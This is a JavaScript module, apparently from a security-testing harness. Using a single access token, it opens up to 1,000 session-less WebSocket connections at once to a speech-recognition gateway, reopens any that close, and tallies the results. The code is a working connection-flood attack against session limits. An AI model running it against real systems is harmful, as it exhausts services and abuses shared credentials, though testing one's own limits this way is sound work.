// WebSockets without a session, up to 1,000 at once.
import { setTimeout as sleep } from 'node:timers/promises';
import WebSocket from 'ws';

export const about =
  'One token opens WebSockets without a session, up to 1,000 at once, and opens those again that end.';

/** @param {import('../attack.mjs').Target} target */
export async function run({ gateway, address, signal }) {
  const url = `${gateway.http.replace(/^http/, 'ws')}/v10/asr/ring/cn_8k_common/short_stream?appkey=${gateway.appkey}`;
  const open = new Set();
  const facts = { opened: 0, 'open at most': 0, refused: 0, ended: 0 };
  while (!signal.aborted) {
    if (open.size < 1_000) {
      const socket = new WebSocket(url, { headers: { 'X-Svc-Access-Token': gateway.token }, localAddress: address });
      open.add(socket);
      let isOpen = false;
      socket.on('open', () => {
        isOpen = true;
        facts.opened++;
        facts['open at most'] = Math.max(facts['open at most'], facts.opened - facts.ended);
      });
      socket.on('error', () => {});
      socket.on('close', () => {
        open.delete(socket);
        if (isOpen) facts.ended++;
        else facts.refused++;
      });
    }
    await sleep(5);
  }
  for (const socket of open) socket.terminate();
  return facts;
}
